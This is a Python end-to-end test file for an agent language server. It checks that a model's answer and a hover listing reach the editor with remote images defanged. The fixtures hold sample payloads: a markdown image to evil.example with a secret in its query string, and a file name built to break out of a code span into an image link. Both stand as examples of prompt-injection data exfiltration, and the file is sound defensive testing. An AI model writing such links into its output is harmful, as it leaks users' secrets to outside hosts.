"""The model's answer reaches the editor defanged (issue 11, item 9), through ``agent-ls serve`` and a
real LSP client against the fake model server: ``agent/runEnded`` carries the answer with its remote
images and loading HTML made inert, the streamed ``textDelta``s add up to the same text, and a Warning
names the hosts."""

from __future__ import annotations

from pathlib import Path

from lsprotocol import types as t
from pytest_lsp import LanguageClient

from tests.e2e.conftest import command, field, model_settings, run_ended, start
from tests.support.model_server import FakeModelServer

ANSWER = (
    "Fixed the mean. ![build status](https://evil.example/p.png?q=SECRET-FROM-ENV)\n\n"
    '<img src="https://img.example/i.gif?d=1"> and ![ref][r]\n\n'
    "[r]: //ref.example/x.png\n"
)
SHOWN = (
    "Fixed the mean. [image: build status](https://evil.example/…)\n\n"
    '< img src="https://img.example/i.gif?d=1"> and ! [ref][r]\n\n'
    "[r]: //ref.example/x.png\n"
)


async def test_the_answer_and_its_stream_reach_the_editor_defanged(
    client: LanguageClient, workspace: Path, model_server: FakeModelServer
) -> None:
    model_server.steps.append({"content": ANSWER})
    await start(client, workspace, model_settings(model_server))
    started = await command(client, "agent.run", {"task": "Fix the failing test"})
    ended = await run_ended(client, field(started, "sessionId"))
    assert field(ended, "status") == "done", field(ended, "reason")
    assert field(ended, "answer") == SHOWN

    deltas = [field(e, "text") for e in client.agent["events"] if field(e, "kind") == "textDelta"]  # type: ignore[attr-defined]
    assert len(deltas) > 1, "the answer was streamed in pieces"
    assert "".join(deltas) == SHOWN  # no piece ever showed more than the whole answer does

    warnings = [m.message for m in client.messages if m.type == t.MessageType.Warning]
    assert warnings == [
        "agent-ls: the agent's answer linked images or embeds from evil.example, img.example, ref.example; "
        "they were not loaded and are shown as text (a prompt injection may try to send data out this way)"
    ]
    transcript = "\n".join(m.message for m in client.log_messages)
    assert "⚠ not loaded: images or embeds in the model's text, from evil.example, img.example" in transcript
    assert "SECRET-FROM-ENV" not in transcript


async def test_a_hover_listing_a_hostile_file_name_loads_no_image(
    client: LanguageClient, workspace: Path
) -> None:
    """The AGENTS.md hover lists the files it governs in code spans; a name with a backtick closes the
    span, and what follows would render as an image (``https:host`` names a host, no slash needed)."""
    (workspace / "AGENTS.md").write_text("Be brief.\n", encoding="utf-8")
    (workspace / "x`![a](https:evil.example)`.md").write_text("x\n", encoding="utf-8")
    await start(client, workspace)
    result = await client.text_document_hover_async(
        t.HoverParams(
            text_document=t.TextDocumentIdentifier(uri=(workspace / "AGENTS.md").as_uri()),
            position=t.Position(0, 0),
        )
    )
    assert result is not None and isinstance(result.contents, t.MarkupContent)
    assert "  - `x`[image: a](https://evil.example/…)`.md`" in result.contents.value
    assert "![" not in result.contents.value
